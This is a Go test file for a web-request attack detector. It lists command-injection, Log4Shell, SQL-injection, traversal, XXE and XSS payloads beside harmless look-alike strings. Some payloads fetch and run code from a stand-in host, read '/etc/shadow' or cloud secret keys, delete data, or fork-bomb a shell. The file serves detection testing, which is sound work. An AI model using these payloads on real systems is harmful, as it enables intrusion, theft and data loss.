package detect_test

import (
	"net/url"
	"testing"

	"github.com/gatehouse-dev/caddy-gatehouse/securitylog/detect"
)

// technique is one way to attack: values that use it, and clean ones that look like it.
type technique struct {
	name    string
	class   detect.Class
	attacks []string
	twins   []string
}

var techniques = []technique{
	{"separator", detect.CmdI,
		[]string{"10.0.0.7;id", "10.0.0.7 | id", "10.0.0.7||id", "10.0.0.7&&whoami", "report.txt; ls -la /srv", "a & ping -c 4 10.0.0.7", "x\nid", "x\r\ncat /etc/hostname", ";netstat -an;"},
		[]string{"R&D", "AT&T", "more & more", "get it #", "rock & roll", "redis & docker", "salt; then pepper", "yes | no", "id: 7", "first\nsecond", "cats & dogs", "this | that | other"}},
	{"subshell", detect.CmdI,
		[]string{"$(whoami)", "`whoami`", "x$(sleep 9)", "<(id)", "a`uname -a`b", "$(cat /etc/hostname)", "who$(echo am)i;"},
		[]string{"costs $(12)", "the `id` column of my table", "what does `ls` do in a shell", "$(document)"}},
	{"blanks of other kinds", detect.CmdI,
		[]string{";cat$IFS/etc/group", ";cat${IFS}$9/etc/group", "{cat,/etc/group}", ";{ls,-l,/srv}", ";cat</etc/group", ";cat\t/etc/group", "\"ping\v-w\v8000\v-n\v1\v1.2.3.4|rem\v", "'\nsleep 9 #", "\"rm\tq51 #", "\"ver >q9 &rem", "'uname #", "{,ip,a}", ";{,ifconfig,eth0}"},
		[]string{"{cat, dog}", "{id,name}", "the set {a,b,c}", "{,}"}},
	{"words taken apart", detect.CmdI,
		[]string{";c'a't /etc/group", `;c"a"t /etc/group`, `;c\at /etc/group`, ";w'ho'am'i", ";who$@ami", ";wh``oami;", `;wh""oami;`, "&who^ami", ";/usr/bin/who*mi", ";cat /e?c/gr??p", "pi>()ng 10.0.0.7"},
		[]string{"it's o'clock", "rock 'n' roll", "a^b", "where is who's who", `the "id" field`}},
	{"variables of the shell", detect.CmdI,
		[]string{";cat ${HOME:0:1}etc${HOME:0:1}group", "cat${PWD:0:1}x", "${SHELL} -c id", "$'\\x69\\x64'", ";$u whoami -a", ";a=$(id);echo $a", "x;p=`id`", "ping%ProgramFiles:~10,1%10.0.0.7", "${a//b/c}", ";test=id;$test"},
		[]string{"${HOME}/notes", "${PORT:-8080}", "$u and $v", "100%", "{{name:0}}", "${IMAGE}:1.2"}},
	{"arithmetic of the shell", detect.CmdI,
		[]string{";echo QX$((31+11))QX", "&echo MRK$((2*8))$(echo MRK)", "|echo $((7+7))", "x;s=$(echo abc);n=${#s};if [ 3 -ne ${n} ];then sleep 0;else sleep 4;fi"},
		[]string{"$10 + $5", "echo chamber", "the echo of 7"}},
	{"Windows", detect.CmdI,
		[]string{"& dir c:\\", "| type c:\\boot.ini", "&& net user", "x & ipconfig /all", "cmd /c whoami", "powershell -c Get-Process", "cmd.exe /c dir", "&powershell.exe -w hidden -enc aQBkAA==", ";iex (iwr http://h.example/a.ps1)", "| Invoke-WebRequest http://h.example/a"},
		[]string{"net profit & users", "type of question", "powershell tutorial", "dir en grey"}},
	{"batch files", detect.CmdI,
		[]string{`for /f "delims=" %i in ('cmd /c dir') do echo %i`, "& for %a in (1 2 3) do echo %a", "FOR %%G IN (x y) DO del %%G", `if "%1"=="" goto end`, "if not exist c:/x.txt (echo no)", "if /i a==a echo yes", "if errorlevel 1 exit", "| if %var% geq 7 call sub", "if [x] == [x] echo same"},
		[]string{"for 100 dollars in cash", "if a == b return", "if exist", "if defined", "if not, tell me", "if (x) == (y)", "for /all/ in one", "if errorlevel matters", "if x geq y"}},
	{"runners", detect.CmdI,
		[]string{";sudo cat /etc/shadow", "sudo id", "nohup curl http://h.example/a", "x;env id", "nohup sh -c id", "strace ls -l", "; xargs wget"},
		[]string{"sudo make me a sandwich", "time flies", "nice try", "exec summary", "time id"}},
	{"files of the system", detect.CmdI,
		[]string{"tail /var/log/x", "rm -rf /var/www", "cat /home/ada/notes", "dir c:/", "tail /v*r/x", "more /etc"},
		[]string{"tail of the dog", "more /less", "head over heels", "cat food/etcetera"}},
	{"interpreters", detect.CmdI,
		[]string{`python -c "print(7*7)"`, `;python3.11 -c 'import os'`, `|perl -e 'print 7'`, `php -r "echo 7;"`, "ruby -e 'puts 7'", `x;node -e "1"`},
		[]string{"python -c flag", "perl one-liner", "php 8", "node -e"}},
	{"calls of code", detect.CmdI,
		[]string{"'.print(`id`).'", "system('id')", "exec(\"ls -l\")", "os.system('id')", "require('child_process').exec('id')", "<?php system($_GET['c']);", "IO.popen('id')", "popen('id','r')", ";phpversion();"},
		[]string{"the system (id) is down", "print(x) in a notebook", "exec team", "what is os.system"}},
	{"functions that breed", detect.CmdI,
		[]string{":(){ :|:& };:", "f(){ f|f& };f", "b() { b & b; };b", "() { :;}; id", "() { _; } >_[$($())] { id; }"},
		[]string{"f() { return g() || 1 }", "main() { run() }", "f(x) | g(x)"}},
	{"parameters that promise a command", detect.CmdI, nil, []string{"id", "ls", "whoami", "uname", "shutdown", "cscli alerts", "dir"}},
	{"cmdlets", detect.CmdI,
		[]string{";get-childitem", "|invoke-item x", "&start-process calc", ";Get-WmiObject Win32_Share"},
		[]string{"get-together", "set-top box", "add-on; plug-in", "start-up & copy-paste"}},
	{"other shells and languages", detect.CmdI,
		[]string{"uname -a", "echo $[6+1]", "time curl h.example", "cat /path/file.gz", "' || whoami", "\" whoami", "ls -l /home/*", "net user eve pw /add", "netsh firewall set opmode disable", "type %SYSTEMROOT%\\repair\\sam", "cu$@rl h.example", "@{[system 'id']}", "%x(ls -l)", "$ENV{'PATH'}", "{${sleep(9)}}", "${exec(print(`id`))}", "foo='() { echo hi; }' bash -c foo", "<% eval request(\"c\") %>"},
		[]string{"net income of users", "net promoter score", "uname manual", "@{user}", "100%x", "function () { return 1 }", "const f = () { }"}},
	{"what a sentence quotes", detect.CmdI, nil,
		[]string{"`false`) ([example](#x))", "&copy; 2015 Ada", "`onrequire` &lt;Function> The function to call", "`Z(UNION|INTER|DIFF)` and more of it", "use it for most logic; `rake -T` lists everything", "`source` | the path of the source file", "a=1&amp;b=2"}},
	{"mail", detect.CmdI,
		[]string{"x\r\nEHLO h.example", "x\r\nMAIL FROM:<a@h.example>", "x\r\nRCPT TO: <b@h.example>", "x\r\na001 LOGIN joe pw", "x\r\nRETR 1", "\nA12 STATUS INBOX (MESSAGES)"},
		[]string{"Hello\nMail from: Ada", "line\nauthor: Bob", "step\na1 steak sauce", "x\nretrieve 1", "item\na001 is sold"}},

	{"log4shell: plain and spelled", detect.Log4Shell,
		[]string{"${jndi:ldap://h.example/a}", "${JNDI:LDAPS://h.example}", "${jndi:dns://h.example}", "${ jndi:rmi://h.example/a}", "${jndi:${lower:l}dap://h.example/a}"},
		[]string{"jndi tutorial", "what is jndi lookup", "${name}", "${user.home}"}},
	{"log4shell: lookups in lookups", detect.Log4Shell,
		[]string{"${${lower:j}ndi:ldap://h/a}", "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}mi://h/a}", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://h/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a}",
			"${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://h/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://h/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h/a}", "${${main:\\k5:-Jnd}i:ldap://h/a}", "${jnd${sys:SYS_NAME:-i}:ldap:/h/a}", "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://h/a}", "${${::-${::-$${::-j}}}ndi:ldap://h/a}", "${jnd${upper:\u0131}:ldap://h/a}", "${${lower:${lower:jndi}}:ldap://h/a}"},
		[]string{"${PORT:-8080}", "${HOST:-localhost}:${PORT:-80}", "use lower: or upper: in the pattern"}},
	{"log4shell: encoded and cut", detect.Log4Shell,
		[]string{"%24%7Bjndi:ldap://h/a%7D", "$%7bjndi:ldap://h/a}", "\\u0024\\u007bjndi:ldap://h/a}", "&#36;&#123;jndi:ldap://h/a}", "${jndi:ldap://127.0.0.1#h.example/a}", "${jndi:ldap://h.example/a"},
		[]string{"%24%7Bname%7D"}},
	{"log4shell: what gives secrets away", detect.Log4Shell,
		[]string{"${env:AWS_SECRET_ACCESS_KEY}", "x${sys:java.version}", "${java:os}", "${${env:HOME}}", "${ctx:loginId}"},
		[]string{"${envelope}", "${system}", "env:production"}},

	{"comments behind a sum", detect.SQLi,
		[]string{"1-0--", "8-(1)--", "'-1--"},
		[]string{"8-qwertyuiopas--", "9+qwertyuiop--", "3/abcdefghij--"}},
	{"union", detect.SQLi,
		[]string{"-1 union select 1,2,3", "1' UNION ALL SELECT null,null-- -", "7)/**/union/**/select/**/name,pw/**/from/**/staff", "1 uNiOn(select(1),(2))", "1/*!50000UnIoN*/SeLeCt 1,2", "0 union distinct select @@version", "-1' union select 1,group_concat(a) from b#", "1.e(select 1)union select 2"},
		[]string{"student union select committee", "trade union", "union of two sets", "European Union elections"}},
	{"tautology", detect.SQLi,
		[]string{"1 or 1=1", "' or ''='", "' or 'q'='q", "\" or \"q\"=\"q", "x' and 5<>6 and 'a'='a", "1 or 7>3", "1' or 8 like 8-- -", "7 || 2=2", "1 and not 3=4", "' or 2 between 1 and 3 -- ", "1 xor 5=5", "') or ('z'='z", "1' or true#", "' or 1 is not null-- ", "7=7", "'b'='b'", "5 like 5"},
		[]string{"5 > 3", "2+2=4", "x = y", "1 or 2", "this or that", "a=a", "either 'yes' or 'no'", "2 = two", "more or less 5 = good"}},
	{"comments and ends", detect.SQLi,
		[]string{"ada'--", "ada' #", "ada'/*", "ada')-- -", "ada';", "9-- -", "x*/=1--", "ada' collate nocase--"},
		[]string{"ada's", "the '90s", "C# and F#", "-- hello", "a -- b", "it's done;", "'quoted';"}},
	{"stacked", detect.SQLi,
		[]string{"1;drop table staff", "1'; insert into staff values(1)--", "1;exec xp_cmdshell('dir')", "7; shutdown--", "1';declare @a varchar(9);set @a='x';exec(@a)--", "0x2f exec(@q)", "1;waitfor delay '0:0:9'", "1; truncate table log--", "';backup database a to disk='x'--", "1;load data infile 'x' into table y", "1;copy t from '/etc/hostname'", "' grant dba to scott--", "drop staff--"},
		[]string{"do this; drop that", "call me; maybe", "set it; forget it", "backup; restore", "copy cat from the litter"}},
	{"time", detect.SQLi,
		[]string{"1 and sleep(9)", "'+sleep(9)+'", "1;select pg_sleep(9)", "1 and benchmark(9999999,md5(1))", "' waitfor delay '0:0:7'--", "if(1=1,sleep(4),0)", "1 or dbms_pipe.receive_message('a',9)=1", "(select*from(select(sleep(9)))a)"},
		[]string{"I need sleep (8 hours)", "time.sleep(5)", "benchmark (2024)", "sleep well"}},
	{"errors and functions", detect.SQLi,
		[]string{"1 and extractvalue(1,concat(0x7e,version()))", "1 and updatexml(1,concat(0x7e,user()),1)", "1 and 1=convert(int,@@version)", "exp(~(select*from(select user())x))", "ascii(substring(user(),1,1))", "select current_database()", "1||utl_inaddr.get_host_address('h')", "||(elt(2,hex(char(45))))", "version()::int", "lo_get(16400)::text", "AND 1=CONVERT(INT,(SELECT CHAR(88)))"},
		[]string{"version (2)", "the user() hook", "std::int", "x::y", "char (pointer)", "cast of the film"}},
	{"names of the server", detect.SQLi,
		[]string{"1 and (select 1 from information_schema.tables)>0", "select @@version", "1 union select name from sqlite_master", "1' and (select count(*) from sysobjects)>0--", "-1 union select @@datadir", "(select banner from v$version)"},
		[]string{"information schema", "@@ is a symbol", "@version", "sqlite master class"}},
	{"clauses", detect.SQLi,
		[]string{"1 order by 9--", "1' group by 1 having 1=1--", "1 having 1=1", "1 limit 1 into outfile '/tmp/x'", "1' into dumpfile '/tmp/x'--", "1 procedure analyse()", "1' order by 5#"},
		[]string{"order by phone", "order by 5 pm", "sort by price", "having 2 dogs", "limit 10"}},
	{"JSON operators", detect.SQLi,
		[]string{`' or '{"b":2}'::jsonb @> '{"b":2}'::jsonb--`, `or '{"a":1}'::jsonb <@ '{"a":1}'`, `1 or '{"a":3}' -> '$.a' = 3`, `' or json_extract('{"id":4}','$.id')=4--`, `or json_extract('{"id":4,"name":"x y"}','$.name')='x'`, `' or '{"a":1}' ? 'a'--`},
		[]string{`{"a":{"b":1}}`, "a -> b", "x->y", "this -> that or the other"}},
	{"false friends of a grammar", detect.SQLi,
		[]string{`1" and "a"="a`, `x" or "y`, "1'+'", "5 --", "a' and 'b' like 'b", `poster" union select 1--`, "(3=4)*7", "1.e(select 1)"},
		[]string{`poster 24x36" glossy white --`, `16" x 20" canvas`, `/find?kind="like"+new&page=2`, `/find?size=20"+x+30"+frame&page=2`, "zq81-xkwoplmnq--", "zq81/xkwoplmnq--", `"red shoes" and "blue hat"`, `the red shoes" and "blue`,
			"php date('w') vs weekday(now())", `"7--`, "Les+amis+de+la+gare+d'Orsay+<br+/>", "amount.avg()::int", "select=price.sum()::text"}},
	{"statements and clauses of their own", detect.SQLi,
		[]string{"select case when 3=4 then 1 else null end--", "insert into staff.people (a, b, c, d) values (1,2,3,4)", "create or replace function nap(int) returns int as 'x'", "create user eve identified by 'x'", "select count(*) from generate_series(1,900000)",
			"select count(*) from domain.tables as a, domain.tables as b", "(select distinct(pin) from (select distinct(pin), rownum as r from sys.user$) where r=2)", "\\'; desc staff; --", "1' in boolean mode)", "table_name from all_tables", "1 where 0 = 0"},
		[]string{"select a case when you travel", "insert into the slot", "create or replace the file", "show all tables", "in boolean logic", "the domain of tables", "from all_about tables"}},
	{"strings that stay open", detect.SQLi,
		[]string{"or uid like '%", "or name is not null or name = '", "or ''-'", "or ''^'", "or (exists)", "' or homer", "' xor abc!", "7')))", "7%' ) )", "5||0", "||8", "x' || '", "'aa'<>'bb'", "= --", "xor 5 >", "if((name)like(0x61),1,0);\x00"},
		[]string{"27\")", "(12')", "like '90s music", "or maybe not", "this || that", "the '60s", "a' b"}},
	{"comments and signs for blanks", detect.SQLi,
		[]string{"nion/*a*/select/*b*/1,2", "1/**/and/**/7=7", "1'+or+'a'='a", "')+waitfor+delay+'0:0:9'", "1\xa0union\xa0select\xa01,2", "1 load_file  (  char (47))"},
		[]string{"src/*/select/*/index.ts", "a+b+c", "2+2+select", "union+jack+flag"}},
	{"spelled by another layer", detect.SQLi,
		[]string{"&#49;&#39;&#32;or&#32;&#39;a&#39;=&#39;a", "&#x31;&#x20;union&#x20;select&#x20;1,2", "\\u0031\\u0027 or 1=1--", "\\x27 union select 1,2", "1%' %A%N%D %1%=%1%-%-"},
		[]string{"it&#39;s fine", "&#8220;quoted&#8221;", "100%% sure%", "caf\\u00e9"}},
	{"probes", detect.SQLi,
		[]string{`7,.)"'(.),(`, `ada"(.,),'.(,`},
		[]string{`say("hi","you")`, `f("","")`, `(...)`, `"...",`, `wait...("`}},
	{"several encodings", detect.SQLi,
		[]string{"%2527%2520or%25201%253D1--", "%u0027 or 1=1--", "\uff07 or 1=1--", "1 or 0x31=0x31"},
		[]string{"100%25", "%20"}},

	{"steps that lose their signs", detect.Traversal,
		[]string{"..;/manager", "..;a=b/manager", "/............boot.ini", "/..........{file}", "..%uEFC8x", "..%c0%5cx", "/.//././/././/x", "\u2026\\\u2026\\x", "x/..\u2215../y"},
		[]string{"wait\u2026 what", "./a/./b", "..........", "and/or.......... {x}", "..;x", "a/.../b"}},
	{"documents and entities", detect.XXE,
		[]string{"<?xml version=\"1.0\"?><a>b</a>", "\"<?xml version='1.0'?><a/>", "<a><![CDATA[<]]>b</a>", "<!DOCTYPE a [<!ATTLIST b c CDATA 'd'>]>", "<!ENTITY % a SYSTEM 'b'>", "<!NOTATION a PUBLIC 'b'>", "x <!ENTITY a 'b'>", "x <!ELEMENT a (b)>", "<!ENTITY a", "so this is one line of talk <!ENTITY % a PUBLIC 'b' 'c'>",
			"&lt;!ENTITY a SYSTEM &quot;b&quot;&gt;", "\\u003c!DOCTYPE a [\\u003c!ENTITY b 'c'\\u003e]\\u003e", "&#x3c;!DOCTYPE a SYSTEM 'b'>"},
		[]string{"filters that look for `<!DOCTYPE` or `<!ENTITY`.", "an xml version of it", "<?xml", "what a <!ENTITY in a DTD is", "the <![CDATA[ of XML"}},
	{"document types that are fetched", detect.XXE,
		[]string{"<!DOCTYPE a SYSTEM 'http://h.example/b.dtd'>", "<!DOCTYPE\na\n\tSYSTEM\n\"b.dtd\">", "<!DOCTYPE a PUBLIC '-//A//B' 'file:///c'>", "<!DOCTYPE html SYSTEM 'http://h.example/b.dtd'>", "<!DOCTYPE html PUBLIC 'a' 'b.dtd'>", "<!DOCTYPE html [", "<!DOCTYPE a SYSTEM file:///b>"},
		[]string{"<!doctype html>", "<!DOCTYPE html SYSTEM 'about:legacy-compat'>", "<!DOCTYPE html PUBLIC '-//W3C//DTD HTML 4.01//EN' 'http://www.w3.org/TR/html4/strict.dtd'>", "<!DOCTYPE html PUBLIC \"-//IETF//DTD HTML 2.0//EN\">", "a <!DOCTYPE of a public library"}},
	{"documents that fetch others", detect.XXE,
		[]string{"<xi:include href='b'/>", "<a xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='b'/></a>", "<a xsi:schemaLocation='http://h.example b.xsd'/>", "<a x:noNamespaceSchemaLocation=\"b.xsd\"/>", "<xsl:stylesheet version='1.0'/>", "<xsl:transform version='1.0'/>", "<xsl:import href='b'/>", "<xsl:value-of select=\"unparsed-text('/b')\"/>", "<xsl:copy-of select='document(&#34;b&#34;)'/>"},
		[]string{"how do I use <xsl:include in a page of mine", "schemaLocation or noNamespaceSchemaLocation", "<xsl:template match=\"a\"> does not match"}},

	{"tags", detect.XSS,
		[]string{"<script>go()</script>", "<ScRiPt src=//h></sCrIpT>", "<script\n>go()", "<svg onload=go()>", "<svg/onload=go()>", "<math><mi xlink:href=javascript:go()>", "<iframe srcdoc='<b>'>", "<iframe src=javascript:go()>", "<object data=javascript:go()>", "<embed src=//h>", "<base href=//h>", "<form action=javascript:go()><input type=submit>", "<isindex action=j&Tab;a>", "<meta http-equiv=refresh content='0;url=javascript:go()'>"},
		[]string{"a < b", "<3", "x <- y", "List<String>", "the <script> tag of a page that I wrote", "<name>"}},
	{"handlers", detect.XSS,
		[]string{"<img src=x onerror=go()>", "<IMG/SRC=x/OnErRoR=go()>", "<body onload\n=\ngo()>", "<input autofocus onfocus=go()>", "<video><source onerror=go()>", "<details open ontoggle=go()>", "<x onpointerrawupdate=go()>", "\" onmouseover=\"go()", "' autofocus onfocus='go()", "<marquee onstart=go()>", "<a onanimationend=go() style=animation:x>", " onmouseover=\"document.cookie=1\">"},
		[]string{"one=two", "only = once", "onboarding=done", "on = off"}},
	{"frameworks", detect.XSS,
		[]string{"<p @click=go()>", "<p v-on:click=go()>", "<div x-init=go()>", "<div ng-init=go()>"},
		[]string{"@ada: click here", "x-init option"}},
	{"schemes in attributes", detect.XSS,
		[]string{"<a href=javascript:go()>", "<a href='java\nscript:go()'>", "<a href=&#106;avascript:go()>", "<a href=\"&#x6a;avascript&colon;go()\">", "<a href=JaVaScRiPt:go()>", "<p style=\"background:url(javascript:go())\">", "-moz-binding:url(//h/x.xml#x)"},
		[]string{"<span class=\"note\">home</span>", "url(image.png)"}},
	{"out of a string", detect.XSS,
		[]string{"'-alert(1)-'", "\";alert(1)//", "';document.location='//h'//", "${alert(1)}", "\\';alert(1)//", "'+eval(name)+'", "1;alert(1)"},
		[]string{"\"yes\"; 'no'", "alert the team", "an alert (red)"}},
	{"calls without brackets or names", detect.XSS,
		[]string{"alert`1`", "[].map.call`${eval}x`", "[1].find(alert)", "top['al'+'ert'](1)", "self[/al/.source+/ert/.source](1)", "(document)[\"cookie\"]", "document/**/.cookie", "a=alert,a(1)", "window['eval'](1)", "Function('go()')()", "setTimeout`go()`;alert`1`", "top[8680439..toString(30)](1)"},
		[]string{"list[0](1)", "this['name']", "a=b,c(1)", "parents' evening", "top (10)"}},
	{"markup as a value", detect.XSS,
		[]string{"<a href=//h.example>x</a>", "'\"><img src=//h.example/", "<h1>hi</h1>", "</title>", "</textarea x>", "<marquee>hi", "<input type=image src=//h.example", "'\">", "\"'></", "<scr\x00ipt>go()", "<scrscriptipt>go()", "< script >go()", "\">><b>", "<x>=&{go()}", "{}*{color:red}", "<?xml-stylesheet href=\"x\"?>"},
		[]string{"<b>bold</b>", "<3 you", "<name>", "<span class=x>hi</span>", "<start_of_turn>user", "\"\"", "a > b", ">>> import this", "what does <a href=x> do in a page", "a line with `<meta name=x content=y>` in it", "x {a} {b}"}},
	{"calls amid expressions", detect.XSS,
		[]string{"|alert(1)|", "a;;delete alert(7)", "[1].constructor.constructor('go()')()", "x.constructor`go()`", "[7].from([1],alert)", "a);alert(7)//", "eval.call(this,name)", "with(location)with(hash)eval(substring(1))", "x,eval(location.hash)", ";location.href='//h.example'", "throw confirm(2)"},
		[]string{"alert (red)", "red alert, confirm", "prompt: say yes", "the prompt (short)", "please confirm (asap)", "severity=alert", "location: room 4", "x.constructor (of a class)"}},
	{"encodings of markup", detect.XSS,
		[]string{"&lt;script&gt;go()&lt;/script&gt;", "\\u003cscript\\u003ego()", "\\x3cscript\\x3ego()", "&#60;script&#62;go()", "%253Cscript%253Ego()", "\uff1cscript\uff1ego()", "+ADw-script+AD4-go()", "&#x3c;img src=x onerror=go()>"},
		[]string{"&amp; &lt; &gt;", "\\u00e9t\\u00e9", "&#8217;"}},
}

func TestTechniques(t *testing.T) {
	d := detect.New(detect.Options{})
	for _, tq := range techniques {
		for _, v := range tq.attacks {
			if found := d.Target("/api/items?page=2&q=" + url.QueryEscape(v)); !found.Classes().Has(tq.class) {
				t.Errorf("%s: %q: found %v, want %s", tq.name, v, found, tq.class)
			}
		}
		for _, v := range tq.twins {
			for _, target := range []string{"/api/items?page=2&q=" + url.QueryEscape(v), "/search/" + url.PathEscape(v)} {
				if found := d.Target(target); found != nil {
					t.Errorf("%s: clean %q: found %v", tq.name, v, found)
				}
			}
		}
	}
}
